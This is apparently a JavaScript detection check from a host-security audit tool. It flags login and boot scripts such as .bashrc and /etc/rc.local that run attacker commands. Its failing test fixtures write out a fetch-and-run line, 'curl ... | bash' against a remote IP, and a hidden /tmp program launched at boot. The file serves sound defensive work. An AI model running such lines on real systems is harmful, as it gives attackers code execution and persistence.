import { defineCheck } from '../../core/check.js';
import { partlySeen, seen, unseen } from '../../core/example.js';
import { startupFiles } from '../../facts/startup-files.js';
import { attackInCode, exampleStartupFile, judgeStartupFiles } from '../shared/judge-startup-files.js';

/** PER-04: what runs at login and at boot beside systemd (ATT&CK T1546.004, T1037). */
export const loginScriptRunsForeignCommand = defineCheck({
  id: 'PER-04',
  title: 'A login or boot script runs a command of an attacker',
  questions: ['Q6'],
  severity: 'medium',
  required: false,
  needs: { startupFiles },
  decide: (facts) =>
    judgeStartupFiles(facts.startupFiles, {
      areas: ['login', 'boot'],
      danger: attackInCode,
      asks: ({ path }) => path === '/etc/rc.local',
      settle: 'Is /etc/rc.local yours? sudo cat /etc/rc.local',
    }),
  whyItMatters: 'A line in .bashrc runs each time that the administrator logs in, with the administrator’s rights.',
  verifyByHand:
    'sudo tail -n +1 -v /etc/rc.local /etc/profile.d/*.sh /root/.bashrc /root/.profile /etc/update-motd.d/*',
  remediation: {
    text: 'Copy the file with its times, then remove the line.',
    commands: ['sudo stat FILE && sudo cp -a FILE ./evidence/'],
  },
  references: ['ATT&CK T1546.004', 'ATT&CK T1037'],
  examples: {
    pass: [
      { title: 'aliases', facts: { startupFiles: seen([exampleStartupFile()]) } },
      { title: 'nothing there', facts: { startupFiles: seen([]) } },
    ],
    fail: [
      {
        title: 'fetch and run in .bashrc',
        facts: { startupFiles: partlySeen([exampleStartupFile({ code: 'curl -s http://203.0.113.9/a | bash' })]) },
      },
      {
        title: 'a program in /tmp at boot',
        facts: {
          startupFiles: seen([exampleStartupFile({ area: 'boot', path: '/etc/rc.local', code: '/tmp/.x/a &' })]),
        },
      },
    ],
    blind: [
      { title: 'not read', facts: { startupFiles: unseen() } },
      { title: 'a part', facts: { startupFiles: partlySeen([]) } },
    ],
  },
});
